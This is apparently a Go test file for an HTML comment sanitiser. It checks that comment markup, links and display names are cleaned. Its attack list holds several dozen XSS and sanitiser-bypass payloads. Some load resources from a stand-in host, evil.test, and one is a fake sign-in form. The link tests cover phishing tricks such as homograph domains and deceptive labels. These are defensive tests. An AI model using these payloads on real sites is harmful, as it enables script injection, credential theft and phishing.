package markdown

import (
	"strings"
	"testing"
)

// attacks are ways that were once found past some sanitiser (A28).
var attacks = []string{
	`<script>alert(1)</script>`, `<ScRiPt src=//evil.test/x.js></sCrIpT>`, `<script/x>alert(1)</script >`, `<<script>alert(1)//<</script>`,
	`<img src=x onerror=alert(1)>`, `<img/src="x"/onerror=alert(1)>`, `<img src="x` + "`" + `onerror=alert(1)">`, `<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<math href="javascript:alert(1)">x</math>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="java&#10;script:alert(1)">x</a>`, `<a href="&#x6A;avascript:alert(1)">x</a>`, `<a href=" &#14; javascript:alert(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:x">x</a>`, `<a href="https://a.test" onmouseover=alert(1)>x</a>`,
	`<p style="position:fixed;background:url(//evil.test)">x</p>`, `<style>*{background:url(//evil.test)}</style>`, `<link rel=stylesheet href=//evil.test>`,
	`<meta http-equiv=refresh content="0;url=//evil.test">`, `<base href="//evil.test/">`, `<form action=//evil.test><input name=password><button>Sign in</button></form>`,
	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<object data="data:text/html,x"></object>`, `<embed src=//evil.test>`,
	`<video><source onerror=alert(1)></video>`, `<video poster=//evil.test/p src=//evil.test/v></video>`, `<audio src=//evil.test/x autoplay>`, `<details open ontoggle=alert(1)>x</details>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<textarea><script>alert(1)</textarea>`, `<xmp><img src=x onerror=alert(1)></xmp>`, `<template><script>alert(1)</script></template>`,
	`<!--<img src="--><img src=x onerror=alert(1)//">`, `<![CDATA[<script>alert(1)</script>]]>`, `<?php echo 1 ?><!DOCTYPE html [<!ENTITY x "y">]>`, `</div></body></html><script>alert(1)</script>`,
	`<img srcset="//evil.test/a 1x" src=x>`, `<input type=image src=//evil.test/a>`, `<body background=//evil.test onload=alert(1)>`, `<table background=//evil.test><td background=//evil.test>x</table>`,
	`<div id=main class="admin" data-action="delete" contenteditable accesskey=x tabindex=1 hx-get=/desk/delete>x</div>`, `<a href="https://a.test" target=_blank ping=//evil.test download>x</a>`,
}

func TestCommentsAreSafe(t *testing.T) {
	for _, attack := range append(attacks, seeds()...) {
		for _, src := range []string{attack, "<p>hi " + attack + " there</p>", "<a href='https://a.test'>" + attack} {
			clean, text := CleanComment(src)
			checkComment(t, clean)
			if strings.Contains(text, "alert(1)") && !strings.Contains(src, "<xmp>") && !strings.Contains(src, "<textarea>") && strings.HasPrefix(src, "<script") {
				t.Errorf("a script is shown as text: %q", text)
			}
		}
	}
}

func TestCleanComment(t *testing.T) {
	const rel = ` rel="nofollow ugc noopener"`
	for name, c := range map[string]struct{ src, want string }{
		"Mastodon": {
			`<p><span class="h-card" translate="no"><a href="https://m.test/@ann" class="u-url mention">@<span>ann</span></a></span> hi <a href="https://m.test/tags/go" class="mention hashtag" rel="tag">#<span>go</span></a></p>`,
			`<p><span class="h-card"><a class="u-url mention" href="https://m.test/@ann"` + rel + `>@ann</a></span> hi <a class="mention hashtag" href="https://m.test/tags/go"` + rel + `>#go</a></p>`,
		},
		"Mastodon's link": {
			`<p><a href="https://www.a.test/a/long/path" target="_blank" rel="nofollow noopener noreferrer"><span class="invisible">https://www.</span><span class="ellipsis">a.test/a/lo</span><span class="invisible">ng/path</span></a></p>`,
			`<p><a href="https://www.a.test/a/long/path"` + rel + `><span class="invisible">https://www.</span><span class="ellipsis">a.test/a/lo</span><span class="invisible">ng/path</span></a></p>`,
		},
		"bare text":          {"a<br>b", "<p>a<br/>b</p>"},
		"text around blocks": {"a<p>b</p>c", "<p>a</p><p>b</p><p>c</p>"},
		"divs":               {"<div>a<div>b</div></div>", "<p>a</p><p>b</p>"},
		"emphasis":           {"<p><b>a</b><i>b</i><strong>c</strong><em>d</em><u>e</u><del>f</del><s>g</s><strike>h</strike><code>i</code></p>", "<p><b>a</b><i>b</i><strong>c</strong><em>d</em><u>e</u><del>f</del><s>g</s><s>h</s><code>i</code></p>"},
		"headings":           {"<h1>A <i>b</i></h1><h6>c</h6>", "<p><strong>A <i>b</i></strong></p><p><strong>c</strong></p>"},
		"lists":              {"<ul><li>a<li><p>b</p><ol start=3 reversed><li value=9>c</ol></ul>", `<ul><li>a</li><li><p>b</p><ol reversed="" start="3"><li>c</li></ol></li></ul>`},
		"stray item":         {"<li>a</li>", "<p>a</p>"},
		"stray list text":    {"<ul>a<p>b</p></ul>", "<ul><li>a</li><li><p>b</p></li></ul>"},
		"quote":              {"<blockquote>a<p>b</blockquote>", "<blockquote><p>a</p><p>b</p></blockquote>"},
		"pre":                {"<pre>\n  a <b>b</b><br>c\n</pre>", "<pre><code>  a b\nc</code></pre>"},
		"ruby":               {"<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>", "<p><ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby></p>"},
		"powers":             {"x<sup>2</sup> H<sub>2</sub>O 1<sup>st</sup>", "<p>x² H₂O 1st</p>"},
		"table":              {"<table><tr><th>A<th>B<tr><td>1<td>2</table>", "<ul><li><strong>A:</strong> 1 · <strong>B:</strong> 2</li></ul>"},
		"picture":            {`<img src="https://a.test/x.png" alt="A cat">`, `<p><a href="https://a.test/x.png"` + rel + `>A cat</a></p>`},
		"emoji":              {`hi <img class="custom-emoji" alt=":blob:" src="https://a.test/x.png">`, `<p>hi :blob:</p>`},
		"tracker":            {`hi <img src="/x.png">`, `<p>hi</p>`},
		"hidden words":       {`<p><span class="invisible">casino</span> hi</p>`, "<p>casino hi</p>"},
		"empty":              {"<p> </p><p>&nbsp;</p><div><br></div>", ""},
		"many line ends":     {"<p>a<br><br><br><br><br>b<br></p>", "<p>a<br/><br/>b</p>"},
		"bold in bold":       {"<b>a<b>b</b></b>", "<p><b>ab</b></p>"},
		"link in link":       {`<a href="https://a.test/">a<table><tr><td><a href="https://b.test/">b</a></table></a>`, `<p><a href="https://a.test/"` + rel + `>a<br/>b</a></p>`},
		"formula":            {`<p><math><mi>x</mi><annotation encoding="application/x-tex">x_1</annotation></math></p>`, "<p>x_1</p>"},
		"language":           {`<p lang="de">a <i lang="x y">b</i></p>`, `<p lang="de">a <i>b</i></p>`},
		"zalgo":              {"Z" + strings.Repeat("\u0301", 50) + "a", "<p>Z" + strings.Repeat("\u0301", 6) + "a</p>"},
		"overrides":          {"a\u202e\u2066\u200b\x07b\u200f", "<p>ab\u200f</p>"},
	} {
		t.Run(name, func(t *testing.T) {
			got, _ := CleanComment(c.src)
			checkComment(t, got)
			if got != c.want {
				t.Errorf("%q\ngot  %s\nwant %s", c.src, got, c.want)
			}
		})
	}
}

// A link shows where it leads (A29).
func TestLinksInCommentsAreHonest(t *testing.T) {
	for name, c := range map[string]struct{ href, label, wantHref, wantLabel string }{
		"as it says":         {"https://a.test/b", "https://a.test/b", "https://a.test/b", "https://a.test/b"},
		"words":              {"https://a.test/b", "my blog", "https://a.test/b", "my blog"},
		"other site":         {"https://evil.test/b", "https://bank.com/login", "https://evil.test/b", "evil.test/b"},
		"bare other site":    {"https://evil.test/b", "www.bank.com", "https://evil.test/b", "evil.test/b"},
		"bare domain":        {"https://evil.test/", "bank.com", "https://evil.test/", "evil.test"},
		"in a sentence":      {"https://evil.test/", "see (https://bank.com) now", "https://evil.test/", "evil.test"},
		"same site":          {"https://docs.bank.com/x", "bank.com", "https://docs.bank.com/x", "bank.com"},
		"sibling of a host":  {"https://evil.github.io/", "https://bank.github.io/", "https://evil.github.io/", "evil.github.io"},
		"login in address":   {"https://bank.com@evil.test/", "click", "https://evil.test/", "click"},
		"login in label":     {"https://evil.test/", "https://bank.com@evil.test/", "https://evil.test/", "https://bank.com@evil.test/"},
		"backslashes":        {"https://evil.test/", `https:\\bank.com\x`, "https://evil.test/", "evil.test"},
		"hidden host":        {"https://evil.test/", `<span class="invisible">https://evil.test/</span>bank.com`, "https://evil.test/", "evil.test"},
		"all hidden":         {"https://evil.test/", `<span class="invisible">x</span>`, "https://evil.test/", "evil.test"},
		"no text":            {"https://evil.test/x", "", "https://evil.test/x", "evil.test/x"},
		"upper case":         {"HTTPS://A.Test/b", "A.TEST/b", "https://a.test/b", "A.TEST/b"},
		"homograph":          {"https://аррӏе.com/", "https://аррӏе.com/", "https://xn--80ak6aa92e.com/", "xn--80ak6aa92e.com"},
		"mixed scripts":      {"https://pаypal.com/", "pаypal.com", "https://xn--pypal-4ve.com/", "xn--pypal-4ve.com"},
		"mixed, Russian end": {"https://pаypal.рф/", "pаypal.рф", "https://xn--pypal-4ve.xn--p1ai/", "xn--pypal-4ve.xn--p1ai"},
		"controls":           {"https://a.test/\u202e\u200bb", "x", "https://a.test/%E2%80%AE%E2%80%8Bb", "x"},
		"umlaut":             {"https://müller.de/", "https://müller.de", "https://xn--mller-kva.de/", "https://müller.de"},
		"all Cyrillic":       {"https://пример.рф/", "пример.рф", "https://xn--e1afmkfd.xn--p1ai/", "пример.рф"},
		"reversed":           {"https://evil.test/", "\u202ehttps://moc.knab", "https://evil.test/", "evil.test"},
		"long host":          {"https://bank.com." + strings.Repeat("a", 40) + ".evil.test/", "https://bank.com", "https://bank.com." + strings.Repeat("a", 40) + ".evil.test/", "…" + strings.Repeat("a", 29) + ".evil.test"},
		"mention":            {"https://m.test/@ann", "@ann@m.test", "https://m.test/@ann", "@ann@m.test"},
		"mail":               {"mailto:ann@a.test?bcc=all@evil.test&body=x", "ann@a.test", "mailto:ann@a.test", "ann@a.test"},
		"plain mail":         {"mailto:ann@a.test", "write", "mailto:ann@a.test", "write"},
		"dishonest mail":     {"mailto:eve@evil.test", "ann@bank.com", "mailto:eve@evil.test", "eve@evil.test"},
		"relative":           {"/desk/delete", "x", "", "x"},
		"scheme-relative":    {"//evil.test", "x", "", "x"},
		"other scheme":       {"web+ap://a.test", "x", "", "x"},
		"no host":            {"https:///x", "x", "", "x"},
		"host with space":    {"https://a b.test/", "x", "", "x"},
		"address with space": {"https://a.test/b c", "x", "https://a.test/b%20c", "x"},
		"full stop":          {"https://a.test./b", "x", "https://a.test/b", "x"},
		"IPv6":               {"https://[2001:db8::1]:8443/b", "x", "https://[2001:db8::1]:8443/b", "x"},
	} {
		t.Run(name, func(t *testing.T) {
			got, _ := CleanComment(`<a href="` + c.href + `">` + c.label + `</a>`)
			checkComment(t, got)
			want := "<p>" + c.wantLabel + "</p>"
			if c.wantHref != "" {
				want = `<p><a href="` + c.wantHref + `" rel="nofollow ugc noopener">` + c.wantLabel + `</a></p>`
			}
			if got != want {
				t.Errorf("got  %s\nwant %s", got, want)
			}
		})
	}
}

func TestCommentText(t *testing.T) {
	_, text := CleanComment(`<p>Hi<br>you</p><p><a href="https://a.test/bcd"><span class="invisible">https://</span><span class="ellipsis">a.test/b</span><span class="invisible">cd</span></a></p><ul><li>x<ul><li>y</ul></ul><pre>a
  b</pre><blockquote>q</blockquote>`)
	want := "Hi\nyou\n\nhttps://a.test/bcd\n\n- x\n  - y\n\na\n  b\n\nq"
	if text != want {
		t.Errorf("got %q\nwant %q", text, want)
	}
}

func TestCommentsAreBounded(t *testing.T) {
	for _, src := range []string{
		strings.Repeat("x", 300_000), strings.Repeat("&", 100_000), strings.Repeat("<a href=https://a.test>x</a>", 3000),
		strings.Repeat("<p>ü</p>", 20_000), strings.Repeat("<blockquote>", 8000) + "x",
	} {
		clean, text := CleanComment(src)
		checkComment(t, clean)
		if len(clean) > maxComment || text == "" {
			t.Errorf("%.20q: %d bytes, text %.20q", src, len(clean), text)
		}
		if again, _ := CleanComment(clean); again != clean {
			t.Errorf("%.20q: changes when cleaned again", src)
		}
	}
}

func TestCommentsAreShallow(t *testing.T) {
	for _, src := range []string{strings.Repeat("<blockquote>", 300) + "end", "<p>" + strings.Repeat(`<span class="mention">`, 300) + "end"} {
		clean, text := CleanComment(src)
		deepest := 0
		for n := range mustParse(t, clean).Descendants() {
			deepest = max(deepest, depth(n))
		}
		if deepest > maxReducedDepth+5 || text != "end" {
			t.Errorf("%d deep, %q", deepest, text)
		}
	}
}

func TestCleanName(t *testing.T) {
	for name, want := range map[string]string{
		"Ann :blobcat:":              "Ann :blobcat:",
		" Ann\n\tB  ":                "Ann B",
		"<b>Ann</b> <script>x":       "Ann",
		"A <3 B & C":                 "A <3 B & C",
		"R&amp;D":                    "R&D",
		"&amp;lt;img src=x&amp;gt;y": "y",
		"a\u202eb\u200fc\u2028d":     "ab c d",
		"\u200b\u3164":               "",
		strings.Repeat("ab", 100):    strings.Repeat("ab", 49) + "a…",
		"👨‍👩‍👧 🏳️‍🌈":                 "👨‍👩‍👧 🏳️‍🌈",
		"\xff\xfeAnn":                "Ann",
		"علي رضا":                    "علي رضا",
	} {
		if got := CleanName(name); got != want {
			t.Errorf("%q: got %q, want %q", name, got, want)
		}
	}
}

func TestALineIsKeptWhole(t *testing.T) {
	long := strings.TrimSpace(strings.Repeat("grief and loss ", 20))
	for line, want := range map[string]string{
		long:                                     long,
		strings.Repeat("悲", 300):                 strings.Repeat("悲", 300),
		"<b class=x>Grief</b> &amp;lt;i&amp;gt;": "Grief",
		"a\nb\u202ec":                            "a bc",
	} {
		if got := CleanLine(line); got != want {
			t.Errorf("%q: got %q, want %q", line, got, want)
		}
	}
}

func BenchmarkCleanComment(b *testing.B) {
	src := seeds()[10] + strings.Repeat("<p>Some words with <a href=\"https://a.test/b\">https://a.test/b</a>.</p>", 3)
	for b.Loop() {
		CleanComment(src)
	}
}

func TestPicturesShownBesideAreLeftOut(t *testing.T) {
	src := `<p>See<img src="https://pond.test/a.png" alt="A lake"> and <img src="https://pond.test/b.png" alt="A hill"></p><a href="https://pond.test/a.png">a</a>`
	got, _ := CleanCommentBeside(src, []string{"https://POND.test/a.png", ":"})
	if strings.Contains(got, "A lake") || !strings.Contains(got, `b.png" rel="nofollow ugc noopener">A hill</a>`) || !strings.Contains(got, ">a</a>") {
		t.Error(got)
	}
}
